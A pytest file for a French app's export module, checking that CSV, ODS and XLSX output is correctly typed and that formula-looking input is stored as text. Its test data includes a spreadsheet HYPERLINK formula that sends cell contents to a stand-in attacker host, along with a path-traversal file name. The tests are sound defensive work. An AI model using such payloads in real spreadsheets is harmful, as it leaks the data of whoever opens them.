"""The shared export module: one document written as CSV, ODS and XLSX, read back."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from facilitation.reports import export
from facilitation.reports.download import safe_filename

from .readers import csv_rows, find_row, ods_sheets, xlsx_book, xlsx_rows

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB=1+1",
    "\r=1+1",
    "  =1+1",  # spaces first: still read as a formula by some programs
]


def _workbook() -> export.Workbook:
    book = export.Workbook("Essai « export »")
    sheet = book.sheet("Synthèse", "Chiffres de l'année", ["Période : 2026", "Portée : tout"])
    table = sheet.table(["Libellé", "Valeur"], caption="Chiffres")
    table.row("Séances", 42)
    table.row("Moyenne", export.number(3.456, 2))
    table.row("Décimal", Decimal("2.5"))
    table.row("Part", export.percent(0.255, 1))
    table.row("Date", date(2026, 3, 5))
    table.row("Moment", export.moment(datetime(2026, 3, 5, 14, 30)))
    table.row("Petit effectif", export.suppressed("< 5"))
    table.row("Négatif", -3)
    table.row("Vide", None)
    table.notes.append("Définition : une séance tenue.")
    notes = book.sheet("Notes", "Notes des participants")
    wall = notes.table(["Note"])
    for value in INJECTIONS:
        wall.row(value)
    wall.row("Santé, égalité — مرحبا ☀️")
    return book


# --- CSV ----------------------------------------------------------------------------------


def test_csv_is_utf8_with_bom_french_separators_and_every_sheet_in_order():
    rows = csv_rows(export.write(_workbook(), "csv"))
    assert rows[0] == ["Chiffres de l'année"]
    assert rows[1:3] == [["Période : 2026"], ["Portée : tout"]]
    assert ["Libellé", "Valeur"] in rows
    assert find_row(rows, "Séances") == ["Séances", "42"]
    assert find_row(rows, "Moyenne") == ["Moyenne", "3,46"]  # decimal comma
    assert find_row(rows, "Décimal") == ["Décimal", "2,5"]
    assert find_row(rows, "Part") == ["Part", "25,5%"]
    assert find_row(rows, "Date") == ["Date", "2026-03-05"]  # ISO
    assert find_row(rows, "Moment") == ["Moment", "2026-03-05 14:30"]
    assert find_row(rows, "Petit effectif") == ["Petit effectif", "< 5"]
    assert find_row(rows, "Négatif") == ["Négatif", "-3"]  # a number stays a number
    assert find_row(rows, "Vide") == ["Vide", ""]
    # the second sheet follows, after an empty row
    start = rows.index(["Notes des participants"])
    assert rows[start - 1] == []
    assert ["Santé, égalité — مرحبا ☀️"] in rows[start:]


def test_csv_neutralises_every_formula_start_as_text():
    rows = csv_rows(export.write(_workbook(), "csv"))
    for value in INJECTIONS:
        assert ["'" + value] in rows, value
    # and the header texts too: nothing that reaches a cell can start a formula
    book = export.Workbook("x")
    book.sheet("=x", "=Titre", ["@ligne"]).table(["-colonne"]).row("ok")
    rows = csv_rows(export.write(book, "csv"))
    assert rows[:2] == [["'=Titre"], ["'@ligne"]]
    assert ["'-colonne"] in rows


def test_csv_of_some_sheets_only():
    book = _workbook()
    rows = csv_rows(export.to_csv(book, sheets=book.sheets[1:]))
    assert rows[0] == ["Notes des participants"]
    assert ["Séances", "42"] not in rows


# --- ODS ----------------------------------------------------------------------------------


def test_ods_cells_are_typed_numbers_percentages_and_dates():
    sheets = ods_sheets(export.write(_workbook(), "ods"))
    assert list(sheets) == ["Synthèse", "Notes"]
    rows = sheets["Synthèse"]
    assert rows[0][0].value == "Chiffres de l'année"
    seances = find_row(rows, "Séances")[1]
    assert (seances.type, seances.value) == ("float", 42.0)
    moyenne = find_row(rows, "Moyenne")[1]
    assert (moyenne.type, moyenne.value) == ("float", pytest.approx(3.456))
    part = find_row(rows, "Part")[1]
    assert (part.type, part.value) == ("percentage", pytest.approx(0.255))
    day = find_row(rows, "Date")[1]
    assert (day.type, day.value) == ("date", "2026-03-05")
    moment = find_row(rows, "Moment")[1]
    assert (moment.type, moment.value) == ("date", "2026-03-05T14:30:00")
    hidden = find_row(rows, "Petit effectif")[1]
    assert (hidden.type, hidden.value) == ("string", "< 5")
    negative = find_row(rows, "Négatif")[1]
    assert (negative.type, negative.value) == ("float", -3.0)


def test_ods_keeps_formula_looking_notes_as_plain_strings():
    rows = ods_sheets(export.write(_workbook(), "ods"))["Notes"]
    cells = [row[0] for row in rows if row]
    by_value = {c.value: c for c in cells}
    for value in INJECTIONS:
        shown = value.replace("\r", "\n")  # a CR becomes a line break inside a paragraph
        cell = by_value.get(value) or by_value.get(shown)
        assert cell is not None, value
        assert cell.type == "string" and cell.formula is None, value
    assert all(c.formula is None for row in rows for c in row)


# --- XLSX ---------------------------------------------------------------------------------


def test_xlsx_cells_are_typed_numbers_percentages_and_dates():
    book = xlsx_book(export.write(_workbook(), "xlsx"))
    assert book.sheetnames == ["Synthèse", "Notes"]
    ws = book["Synthèse"]
    cells = {row[0].value: row[1] for row in ws.iter_rows() if row[0].value and len(row) > 1}
    assert cells["Séances"].value == 42 and cells["Séances"].data_type == "n"
    assert cells["Moyenne"].value == pytest.approx(3.456)
    assert cells["Moyenne"].number_format == "0.00"
    assert cells["Part"].value == pytest.approx(0.255)
    assert cells["Part"].number_format == "0.0%"
    assert cells["Date"].is_date and cells["Date"].value == datetime(2026, 3, 5)
    assert cells["Moment"].is_date and cells["Moment"].value == datetime(2026, 3, 5, 14, 30)
    assert cells["Petit effectif"].value == "< 5" and cells["Petit effectif"].data_type == "s"
    assert cells["Négatif"].value == -3 and cells["Négatif"].data_type == "n"


def test_xlsx_keeps_formula_looking_notes_as_quoted_text():
    ws = xlsx_book(export.write(_workbook(), "xlsx"))["Notes"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value}
    for value in INJECTIONS:
        cell = cells[value.replace("\r", "_x000D_")]  # how XLSX stores a CR (Excel reads it)
        assert cell.data_type == "s", value  # a string, never "f" (formula)
        assert cell.quotePrefix, value  # and stays text if someone edits it
    assert not cells["Santé, égalité — مرحبا ☀️"].quotePrefix
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_xlsx_and_ods_hold_the_same_rows_as_csv():
    book = _workbook()
    csv_values = csv_rows(export.write(book, "csv"))
    xlsx_values = xlsx_rows(export.write(book, "xlsx"))["Synthèse"]
    assert find_row(xlsx_values, "Séances")[:2] == ["Séances", 42]
    assert find_row(csv_values, "Séances") == ["Séances", "42"]
    assert len([r for r in xlsx_values if any(v is not None for v in r)]) == len(
        [r for r in csv_values[: csv_values.index(["Notes des participants"]) - 1] if r]
    )


# --- the model ----------------------------------------------------------------------------


def test_sheet_names_are_valid_for_ods_and_xlsx_and_unique():
    book = export.Workbook("x")
    names = [
        book.sheet("1. Mur d'idées : [colonnes]/votes?").name,
        book.sheet("Activité " * 10).name,
        book.sheet("Activité " * 10).name,
        book.sheet("'").name,
    ]
    assert names[0] == "1. Mur d'idées colonnes votes"
    assert all(len(n) <= 31 for n in names)
    assert len({n.casefold() for n in names}) == 4
    assert names[3] == "Feuille"
    export.write(book, "xlsx")  # XlsxWriter refuses invalid names: this must not raise


def test_aware_datetimes_are_shown_in_the_structure_time_zone():
    paris = ZoneInfo("Europe/Paris")
    cell = export.moment(datetime(2026, 7, 1, 12, 0, tzinfo=UTC), paris)
    assert cell.value == datetime(2026, 7, 1, 14, 0)


def test_a_row_must_fill_every_column_and_yes_no_must_be_words():
    table = export.Table(["a", "b"])
    with pytest.raises(ValueError):
        table.row(1)
    with pytest.raises(TypeError):
        table.row("a", True)


def test_safe_file_names_are_ascii_without_separators_or_quotes():
    name = safe_filename("compte-rendu", "2026-03-05", '« Santé » ../../etc/"x"', extension="ods")
    assert name == "compte-rendu-2026-03-05-sante-etc-x.ods"
    assert safe_filename("مرحبا", extension="csv") == "export.csv"
